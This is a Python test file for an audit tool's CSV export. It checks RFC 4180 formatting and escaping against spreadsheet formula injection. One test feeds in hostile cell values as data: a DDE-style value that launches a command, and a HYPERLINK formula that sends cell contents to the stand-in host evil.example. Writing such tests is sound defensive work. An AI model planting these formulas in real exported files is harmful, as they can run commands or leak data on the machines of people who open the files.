"""CSV: RFC 4180 records and no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv as std_csv
import dataclasses
import io

import pytest

from smaudit.formats.findings import csv
from smaudit.model import Report, Status
from tests.formats.conftest import PLACES, render

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n")


def _rows(text: str) -> list[dict[str, str]]:
    return list(std_csv.DictReader(io.StringIO(text, newline="")))


def test_header_rows_and_crlf(report: Report) -> None:
    text = render(report, "csv")
    assert text.startswith(",".join(csv.HEADER) + "\r\n") and text.endswith("\r\n")
    rows = _rows(text)
    assert len(rows) == len(report.without_passes().findings)
    for row in rows:
        key = (row["control_id"], row["account_id"])
        assert (row["file"], int(row["line"]), int(row["column"])) == PLACES[key]
    assert rows[0]["nist_800_53"] == "ia-2.1; ia-2.2; ia-5"


def test_listed_passes_are_rows_too(report: Report) -> None:
    rows = _rows(csv.render(report))
    assert {r["status"] for r in rows} == {s.value for s in Status if s is not Status.WAIVED}


@pytest.mark.parametrize("start", DANGEROUS)
def test_no_cell_starts_like_a_formula(start: str, report: Report) -> None:
    failure = next(f for f in report.findings if f.status is Status.FAIL)
    hostile = dataclasses.replace(
        failure,
        account_id=f"{start}cmd|' /C calc'!A0",
        platform=f"{start}x",
        message=f'{start}HYPERLINK("http://evil.example/?"&A1,"click")',
    )
    rows = list(
        std_csv.reader(
            io.StringIO(csv.render(dataclasses.replace(report, findings=(hostile,))), newline="")
        )
    )
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(DANGEROUS)]
    assert f"'{start}HYPERLINK" in rows[1][csv.HEADER.index("message")]


def test_quotes_and_newlines_round_trip(report: Report) -> None:
    failure = next(f for f in report.findings if f.status is Status.FAIL)
    awkward = dataclasses.replace(failure, message='says "hi",\nthen leaves')
    (row,) = _rows(csv.render(dataclasses.replace(report, findings=(awkward,))))
    assert row["message"] == 'says "hi",\nthen leaves'
